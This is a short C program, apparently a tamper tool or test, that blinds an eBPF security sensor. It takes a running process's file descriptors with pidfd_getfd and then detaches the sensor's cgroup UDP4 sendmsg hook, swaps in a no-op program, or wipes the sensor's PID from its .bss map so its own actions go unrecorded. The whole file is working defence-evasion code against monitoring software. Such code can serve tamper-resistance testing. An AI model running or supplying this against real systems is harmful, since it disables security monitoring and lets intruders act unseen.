// SPDX-License-Identifier: Apache-2.0
/*
 * blind PID HOW: takes a sensor's hook away, as root can who wants it silent. It lends itself the
 * descriptors of that process. Prints how many it found.
 *
 *   detach   takes the hook for datagrams over IPv4 from its cgroup, by force
 *   replace  lets that hook call a program that does nothing
 *   mask     takes from the programs' memory who the sensor is, so that its own acts are no longer known
 */
#include <errno.h>
#include <linux/bpf.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define FDS_MAX 512

static long call_bpf(int command, union bpf_attr *attr)
{
	return syscall(SYS_bpf, command, attr, sizeof(*attr));
}

static long get_info(int fd, void *info, uint32_t size)
{
	union bpf_attr attr = {
		.info = {.bpf_fd = (uint32_t)fd, .info_len = size, .info = (uintptr_t)info}};

	memset(info, 0, size);
	return call_bpf(BPF_OBJ_GET_INFO_BY_FD, &attr);
}

/* The name that the kernel gives a descriptor: bpf objects of all kinds look the same to info. */
static int is_kind(int fd, const char *kind)
{
	char path[64], name[64] = "";

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return readlink(path, name, sizeof(name) - 1) > 0 && strstr(name, kind) != NULL;
}

static int is_send4(int fd)
{
	struct bpf_link_info info;

	return (is_kind(fd, "bpf_link") || is_kind(fd, "bpf-link")) &&
	       get_info(fd, &info, sizeof(info)) == 0 && info.type == BPF_LINK_TYPE_CGROUP &&
	       info.cgroup.attach_type == BPF_CGROUP_UDP4_SENDMSG;
}

static long detach(int fd)
{
	union bpf_attr attr = {.link_detach = {.link_fd = (uint32_t)fd}};

	return call_bpf(BPF_LINK_DETACH, &attr);
}

static long replace(int fd)
{
	static const struct bpf_insn insns[] = {
		{.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 1},
		{.code = BPF_JMP | BPF_EXIT},
	};
	union bpf_attr load = {
		.prog_type = BPF_PROG_TYPE_CGROUP_SOCK_ADDR,
		.expected_attach_type = BPF_CGROUP_UDP4_SENDMSG,
		.insn_cnt = 2,
		.insns = (uintptr_t)insns,
		.license = (uintptr_t) "GPL",
	};
	union bpf_attr update = {.link_update = {.link_fd = (uint32_t)fd}};
	long program = call_bpf(BPF_PROG_LOAD, &load);

	update.link_update.new_prog_fd = (uint32_t)program;
	return program < 0 ? -1 : call_bpf(BPF_LINK_UPDATE, &update);
}

/* The programs' memory: one value, in which the sensor's pid stands somewhere. */
static long mask(int fd, uint32_t pid)
{
	uint32_t key = 0, words[4096];
	union bpf_attr attr = {
		.map_fd = (uint32_t)fd, .key = (uintptr_t)&key, .value = (uintptr_t)words};
	struct bpf_map_info info;
	long found = -1;

	if (!is_kind(fd, "bpf-map") || get_info(fd, &info, sizeof(info)) ||
	    !strstr(info.name, ".bss") || info.value_size > sizeof(words) ||
	    call_bpf(BPF_MAP_LOOKUP_ELEM, &attr))
		return -1;
	for (size_t i = 0; i < info.value_size / sizeof(*words); i++)
		if (words[i] == pid) {
			words[i] = 0;
			found = 0;
		}
	return found ? found : call_bpf(BPF_MAP_UPDATE_ELEM, &attr);
}

int main(int argc, char **argv)
{
	int pid = argc == 3 ? atoi(argv[1]) : 0, found = 0;
	long pidfd = pid > 0 ? syscall(SYS_pidfd_open, pid, 0) : -1;

	if (pidfd < 0)
		return 2;
	for (int i = 3; i < FDS_MAX; i++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);

		if (fd < 0)
			continue;
		if (strcmp(argv[2], "mask") == 0)
			found += mask(fd, (uint32_t)pid) == 0;
		else if (is_send4(fd))
			found += (strcmp(argv[2], "detach") == 0 ? detach(fd) : replace(fd)) == 0;
		close(fd);
	}
	printf("%d\n", found);
	return 0;
}
